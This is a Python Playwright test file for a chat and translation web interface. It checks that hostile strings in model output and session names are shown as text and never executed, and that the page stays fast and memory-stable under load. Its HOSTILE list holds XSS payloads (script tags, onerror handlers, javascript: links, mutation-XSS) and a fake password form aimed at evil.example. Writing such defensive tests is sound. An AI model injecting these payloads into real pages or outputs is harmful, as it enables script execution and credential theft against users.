"""Text that wants to be code, and boards that never rest."""

import pytest
from browser import at_pace, playback

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg/onload=window.hacked=1>",
    "[click](javascript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "![picture](https://evil.example/spy.png)",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    '</div></section></main><form action="//evil.example"><input name=password></form>',
    "<style>* { display: none }</style>",
    "x" * 10_000,
    "‮desrever si siht‬ " * 20,
    "| a | b |\n|---|---|\n" + "| " + "w" * 3000 + " | y |",
    "> " * 400 + "deep",
    "- " * 400 + "deep",
    "```\n" + "y" * 5000 + "\n```",
]


def said(_: dict):
    for text in HOSTILE:
        yield {"choices": [{"index": 0, "delta": {"content": text + "\n\n"}}]}
    yield {"choices": [{"index": 0, "delta": {"content": ""}, "finish_reason": "stop"}],
           "usage": {"prompt_tokens": 1, "completion_tokens": 9}, "session": {"id": "c:1", "tokens": 10}}  # fmt: skip
    yield {"dialogue_idx": 1}


SESSION = {"updated": 0, "version": 1, "tokens": 1, "bytes": 1}
COUNTS = {"total_sessions": 1, "l1_cache_count": 1, "l2_cache_count": 0, "database_count": 0, "next_offset": None}
ANSWERS = {
    "/state/status": COUNTS
    | {"sessions": [SESSION | {"session_id": text[:250], "cache_level": text[:250]} for text in HOSTILE]},
    "/translate/v1/batch-translate": {
        "translations": [{"text": text, "detected_source_lang": text, "error": text} for text in HOSTILE]
    },
}


@pytest.mark.parametrize("width", [1280, 390])
def test_what_a_model_or_a_name_says_never_runs_and_never_breaks_the_layout(open_page, width):
    with playback(said, ANSWERS) as url:
        page = open_page(url, viewport={"width": width, "height": 800})
        asked = []
        page.on("request", lambda request: asked.append(request.url))
        page.get_by_label("Message").fill("<img src=x onerror='window.hacked=1'>" * 3)
        page.keyboard.press("Enter")
        page.locator(".figures", has_text="tokens/s").wait_for(timeout=20_000)
        assert page.locator(".answer").inner_text().count("<script>") >= 1, "shown as text"
        for name in ("chat", "tree", "sessions", "translate", "board"):
            page.goto(f"{url}#{name}")
            if name == "translate":
                page.get_by_label("Text").fill("\n".join(str(i) for i in range(len(HOSTILE))))
                page.get_by_role("button", name="Translate", exact=True).click()
                page.locator(".pair").nth(len(HOSTILE) - 1).wait_for()
            if name == "board":
                page.get_by_label("Copies").fill("2")
                page.get_by_role("button", name="Run").click()
                page.locator(".cell.done").first.wait_for()
            page.wait_for_timeout(200)
            assert page.evaluate("document.documentElement.scrollWidth") <= width, name
            assert page.evaluate("window.hacked") is None
            assert page.evaluate("document.querySelectorAll('main :is(script,img,iframe,svg,style,object)').length") == 0
            links = page.evaluate("[...document.querySelectorAll('main a')].map(a => a.href)")
            assert not [link for link in links if link and not link.startswith(("http", "mailto:"))]
        assert all(request.startswith((url, "blob:", "data:")) for request in asked), "nobody else is asked for anything"


WATCH = """
window.delays = [];
window.longTasks = [];
let last = performance.now();
setInterval(() => {
  const now = performance.now();
  window.delays.push(now - last - 20);
  last = now;
}, 20);
new PerformanceObserver((list) => {
  for (const entry of list.getEntries()) window.longTasks.push(entry.duration);
}).observe({ entryTypes: ["longtask"] });
"""


def share(values: list[float], part: float) -> float:
    return sorted(values)[int(part * (len(values) - 1))]


def watch_board(open_page, seconds: float, rounds: int) -> tuple[list[float], list[float], list[float]]:
    """Delays of a timer (ms), long tasks (ms) and MiB of heap after each round of 320 rows at 10,000 tokens/s."""
    with playback(at_pace(320, 10_000, seconds)) as url:
        page = open_page("about:blank")
        page.add_init_script(WATCH)
        page.goto(url + "#board")
        page.get_by_label("Copies").fill("320")
        heap = []
        for _ in range(rounds):
            page.get_by_role("button", name="Run").click()
            page.get_by_text("320 finished").wait_for(timeout=(seconds + 60) * 1000)
            page.evaluate("gc()")
            heap.append(page.evaluate("performance.memory.usedJSHeapSize") / 2**20)
        return page.evaluate("delays"), page.evaluate("longTasks"), heap


def told(delays: list[float], tasks: list[float]) -> str:
    late = f"timer late by p95 {share(delays, 0.95):.1f} ms, at most {max(delays):.0f}"
    return f"{late}; {len(tasks)} long tasks, at most {max(tasks, default=0):.0f} ms"


def test_a_board_of_320_rows_at_10000_tokens_a_second_stays_responsive(open_page):
    for _ in range(2):  # a machine that is busy with something else can hold up one
        delays, tasks, _ = watch_board(open_page, 6, 1)
        print(told(delays, tasks))
        if share(delays, 0.95) <= 50:
            return
    pytest.fail("late both times")


@pytest.mark.long
@pytest.mark.timeout(600)
def test_its_memory_is_flat_over_five_minutes(open_page):
    delays, tasks, heap = watch_board(open_page, 20, 15)
    print(f"{told(delays, tasks)}; heap {heap[0]:.1f} to {heap[-1]:.1f} MiB")
    assert share(delays, 0.95) <= 50
    assert heap[-1] <= heap[1] * 1.2 + 2
